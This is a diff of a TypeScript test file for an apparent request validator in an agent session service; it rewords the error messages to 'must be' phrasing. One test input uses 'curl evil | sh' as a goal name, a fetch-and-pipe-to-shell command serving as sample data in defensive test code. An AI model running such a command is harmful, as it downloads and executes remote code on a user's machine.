@@ -17,21 +17,21 @@ test.each<[unknown]>([
 
 test.each<[unknown, string]>([
   [null, 'Give an object: { "id", "request" }.'],
-  [{ request: { type: 'close' } }, 'The id of a request is a text of 1 to 200 characters.'],
-  [{ id: 'r', request: 'close' }, 'A request is an object, such as {"type":"prompt","content":"…"}.'],
-  [{ id: 'r', request: { type: 'close' }, opening: 1 }, 'The opening of a session is an object.'],
-  [{ id: 'r', request: { type: 'prompt', content: ' ' } }, 'In a request of the type prompt, content is not empty.'],
+  [{ request: { type: 'close' } }, 'The id of a request must be a string of 1 to 200 characters.'],
+  [{ id: 'r', request: 'close' }, 'A request must be an object, such as {"type":"prompt","content":"…"}.'],
+  [{ id: 'r', request: { type: 'close' }, opening: 1 }, 'The opening of a session must be an object.'],
+  [{ id: 'r', request: { type: 'prompt', content: ' ' } }, 'In a request of type prompt, content must not be empty.'],
   [
     { id: 'r', request: { type: 'prompt', content: 'x', when: 'soon' } },
-    'In a request of the type prompt, when is one of now, next, later.',
+    'In a request of type prompt, when must be one of now, next, later.',
   ],
   [
     { id: 'r', request: { type: 'set', change: { until: [{ name: 'curl evil | sh' }] } } },
-    'In a request of the type set, change is an object without "until": the goals of a session are those that its worker was started with.',
+    'In a request of type set, change must be an object without "until": the goals of a session are set when its worker starts.',
   ],
   [
     { id: 'r', request: { type: 'answer', callId: 'c', answer: { behavior: 'deny' } } },
-    'In a request of the type answer, answer is {"behavior":"allow","updatedInput":{…}}, where the last is optional, or {"behavior":"deny","message":"…"}.',
+    'In a request of type answer, answer must be {"behavior":"allow","updatedInput":{…}}, where updatedInput is optional, or {"behavior":"deny","message":"…"}.',
   ],
 ])('%j is none, and it is said why', (given, problem) => {
   expect(problemOfRequest(given)).toBe(problem)
@@ -39,7 +39,7 @@ test.each<[unknown, string]>([
 
 test('what the engine could not carry, and what the cluster alone says, is no request', () => {
   const deep: unknown = JSON.parse(`${'['.repeat(100_000)}${']'.repeat(100_000)}`)
-  const tooDeep = 'A request is at most 500 lists and objects deep.'
+  const tooDeep = 'A request may be at most 500 lists and objects deep.'
   const answer = { behavior: 'allow', updatedInput: { deep } }
   expect(problemOfRequest({ id: 'r', request: { type: 'answer', callId: 'c', answer } })).toBe(tooDeep)
   const close = { type: 'close' }
@@ -53,7 +53,7 @@ test('what the engine could not carry, and what the cluster alone says, is no re
   )
   expect(problemOfMessages(['x'.repeat(8 << 20)], sizeLimitWithoutStore)).toContain('With the files that it names')
   // The folder of another session came with it.
-  expect(problemOfRequest({ id: 'r', request: close, opening: { forkedFrom: 's-1' } })).toContain('fork the session')
+  expect(problemOfRequest({ id: 'r', request: close, opening: { forkedFrom: 's-1' } })).toContain('Fork the session')
 })
 
 test('an id is a text that is not too long to be a key', () => {
